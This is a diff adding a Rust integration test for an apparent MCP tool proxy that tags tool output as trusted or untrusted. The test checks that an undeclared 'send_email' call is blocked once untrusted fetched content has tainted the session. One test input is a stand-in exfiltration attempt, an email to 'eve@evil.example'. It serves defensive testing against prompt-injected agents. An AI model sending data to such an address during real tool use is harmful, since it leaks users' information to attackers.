@@ -363,3 +363,65 @@ fn a_bad_config_stops_the_proxy_at_start_with_the_line() {
     assert!(stderr.contains("line 7"), "{stderr}");
     assert!(stderr.contains("sometimes"), "{stderr}");
 }
+
+/// An upstream over streamable HTTP on the loopback interface is fronted like one over
+/// stdio.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_http_upstream_is_fronted_too() {
+    use rmcp::transport::streamable_http_server::{
+        StreamableHttpService, session::local::LocalSessionManager,
+    };
+    let service: StreamableHttpService<tooltrust_mcp::demo::DemoServer, LocalSessionManager> =
+        StreamableHttpService::new(
+            || Ok(tooltrust_mcp::demo::DemoServer),
+            Default::default(),
+            Default::default(),
+        );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("a port");
+    let address = listener.local_addr().expect("its address");
+    tokio::spawn(async move {
+        let _ = axum::serve(listener, axum::Router::new().nest_service("/mcp", service)).await;
+    });
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let path = dir.path().join("tooltrust-mcp.toml");
+    std::fs::write(
+        &path,
+        format!(
+            "audit_log = \"audit\"\n\n[[upstream]]\nname = \"docs\"\nurl = \"http://{address}/mcp\"\n\n[upstream.tools]\n\"lookup_policy\" = {{ trust = \"trusted\", read_only = true }}\n\"fetch_*\" = {{ trust = \"untrusted\", read_only = true }}\n"
+        ),
+    )
+    .expect("written");
+    let client = proxy(&path, person(None)).await;
+    let policy = call(&client, "docs__lookup_policy", json!({})).await;
+    assert!(
+        text(&policy).starts_with("<trusted_content_"),
+        "{}",
+        text(&policy)
+    );
+    let page = call(
+        &client,
+        "docs__fetch_page",
+        json!({"url": "https://shop.example"}),
+    )
+    .await;
+    assert!(
+        text(&page).starts_with("<untrusted_content_"),
+        "{}",
+        text(&page)
+    );
+    let send = call(
+        &client,
+        "docs__send_email",
+        json!({"to": "eve@evil.example", "body": "x"}),
+    )
+    .await;
+    assert_eq!(
+        send.is_error,
+        Some(true),
+        "undeclared after taint: held, {}",
+        text(&send)
+    );
+    client.cancel().await.expect("the client stops");
+}
